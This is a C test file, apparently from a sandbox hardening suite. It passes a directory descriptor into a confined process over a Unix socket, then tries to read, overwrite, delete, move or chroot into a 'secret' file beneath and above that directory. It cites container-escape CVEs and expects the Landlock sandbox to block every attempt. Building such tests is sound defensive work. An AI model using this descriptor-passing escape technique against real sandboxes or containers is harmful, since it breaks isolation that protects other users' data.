// SPDX-License-Identifier: Apache-2.0
// Tries:      to leave the view by a directory that somebody outside sends over a socket which a grant shows: to open what lies in it, and
//             above it. `received serve SOCKET DIRECTORY` is the one outside.
// Known from: SCM_RIGHTS; CVE-2016-9962 and CVE-2024-21626 are the same with a descriptor that was left open.
// Must:       fail: mounts say nothing of such a descriptor, but Landlock asks for the path of what is opened beneath it.
// Control:    plain with the server beside it
// Argument:   SOCKET, whose server sends a directory with `secret` (says TREASURE); or serve SOCKET DIRECTORY
// Behind:     the filter is not what holds this
#include "attack.h"
#include <sys/socket.h>
#include <sys/un.h>

static int serve(const char *path, const char *directory) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(s, (void *)&address, sizeof address) || chmod(path, 0777) || listen(s, 8)) untried("%s: %s", path, strerror(errno));
  puts("serving"), fflush(stdout);
  for (int c; (c = accept(s, NULL, NULL)) >= 0; close(c)) {
    int fd = open(directory, O_RDONLY | O_DIRECTORY);
    char space[CMSG_SPACE(sizeof fd)] = {0};
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    *head = (struct cmsghdr){CMSG_LEN(sizeof fd), SOL_SOCKET, SCM_RIGHTS};
    memcpy(CMSG_DATA(head), &fd, sizeof fd);
    sendmsg(c, &message, 0);
    close(fd);
  }
  return 2;
}

static void look(int directory, const char *name) {
  char text[16] = "";
  int fd = openat(directory, name, O_RDONLY);
  if (fd >= 0 && read(fd, text, sizeof text - 1) > 0 && strstr(text, "TREASURE")) won("read %s", name);
  if (fd >= 0) close(fd);
  fd = openat(directory, name, O_WRONLY | O_APPEND);
  if (fd >= 0) won("opened %s to write", name);
}

int main(int argc, char **argv) {
  if (argc == 4 && !strcmp(argv[1], "serve")) return serve(argv[2], argv[3]);
  if (argc != 2) untried("no socket");
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, argv[1], sizeof address.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_STREAM, 0), fd = -1;
  if (connect(s, (void *)&address, sizeof address)) untried("connect: %s", strerror(errno));
  char space[CMSG_SPACE(sizeof fd)] = {0}, byte;
  struct iovec part = {&byte, 1};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
  if (recvmsg(s, &message, 0) != 1 || !CMSG_FIRSTHDR(&message)) untried("nothing was sent: %s", strerror(errno));
  memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
  look(fd, "secret");
  look(fd, "../secret");
  if (!fchdir(fd)) {
    look(AT_FDCWD, "secret");
    look(AT_FDCWD, "../secret");
    if (!chroot(".")) won("made it the root");
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d/secret", fd);
  look(AT_FDCWD, path);
  look(AT_FDCWD, "/proc/self/cwd/secret");
  if (!mkdirat(fd, "made", 0700)) won("made a directory in it");
  if (!unlinkat(fd, "secret", 0)) won("removed the secret");
  if (!renameat(fd, "secret", AT_FDCWD, "/tmp/secret") || !linkat(fd, "secret", AT_FDCWD, "/tmp/secret", 0)) won("took the secret along");
  held();
}
